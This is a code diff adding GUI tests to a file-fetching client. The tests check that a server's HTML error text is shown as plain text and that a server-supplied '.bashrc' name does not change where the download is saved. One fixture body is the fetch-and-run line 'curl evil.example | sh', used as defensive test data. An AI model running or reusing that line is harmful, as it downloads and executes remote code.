@@ -12,7 +12,8 @@ import pytest
 from PySide6.QtCore import Qt
 
 from app.main_window import MainWindow
-from netcore.protocols.filehdr import encode_header
+from netcore.protocols.filehdr import encode_header, name_fields
+from tests.app.support import OneReplyServer
 from widgets.hexdump_view import FRAME_START_ROLE, HEX0
 
 WAIT_S = 5.0
@@ -155,3 +156,38 @@ def test_unknown_name_and_existing_file(qtbot, page, tmp_path):
     assert "already exists" in page.client.state.text()
     assert "Choose another folder, or allow overwriting." in page.client.state.text(), "the hint"
     assert (tmp_path / "dest" / "hello.png").read_bytes() == b"mine"
+
+
+MARKUP = '<h1 style="color:red">X</h1><a href="http://example.com/">link</a><img src="file:///etc/hostname">'
+
+
+def fetch_from(qtbot, page, port, name):
+    page.client.address.set_address("127.0.0.1", port)
+    page.client.name.setText(name)
+    qtbot.mouseClick(page.client.fetch_button, Qt.MouseButton.LeftButton)
+    qtbot.waitUntil(lambda: page.client.runner is None, timeout=WAIT_MS)
+
+
+def test_a_servers_error_of_markup_is_shown_as_text(qtbot, page, tmp_path):
+    """A file server's error field of HTML shows as its characters in the pane's state."""
+    reply = encode_header({"file_name": "holiday", "error": MARKUP, "data_all": 0})
+    with OneReplyServer(reply) as server:
+        fetch_from(qtbot, page, server.port, "holiday.jpg")
+    state = page.client.state
+    assert state.textFormat() == Qt.TextFormat.PlainText
+    assert f"the server refused 'holiday.jpg': {MARKUP}" in state.text()
+    assert os.listdir(tmp_path / "dest") == []
+
+
+def test_the_servers_name_is_shown_not_used(qtbot, page, tmp_path):
+    """Asked for holiday.jpg, a server answering .bashrc: holiday.jpg is saved and the verdict
+    names .bashrc as the server's name only."""
+    body = b"curl evil.example | sh\n"
+    header = {**name_fields(".bashrc"), "file_hex": hashlib.md5(body).hexdigest(), "data_all": len(body)}
+    with OneReplyServer(encode_header(header) + body) as server:
+        fetch_from(qtbot, page, server.port, "holiday.jpg")
+    assert os.listdir(tmp_path / "dest") == ["holiday.jpg"]
+    assert (tmp_path / "dest" / "holiday.jpg").read_bytes() == body
+    verdict = page.client.verdict
+    assert verdict.textFormat() == Qt.TextFormat.PlainText
+    assert "The server calls it '.bashrc'" in verdict.text() and "holiday.jpg" in verdict.text()
